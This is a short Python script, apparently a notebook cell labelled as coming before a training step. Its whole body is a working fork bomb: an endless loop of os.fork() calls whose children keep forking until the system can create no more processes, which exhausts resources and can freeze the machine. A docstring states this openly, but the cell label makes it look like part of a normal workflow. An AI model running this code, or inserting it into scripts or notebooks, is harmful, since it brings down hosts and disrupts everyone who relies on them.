"""Processes that start processes, as many as there may be.

notebook: 03_01_search
base: release
"""
# %% before define_train
import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(1)
    except OSError:
        break
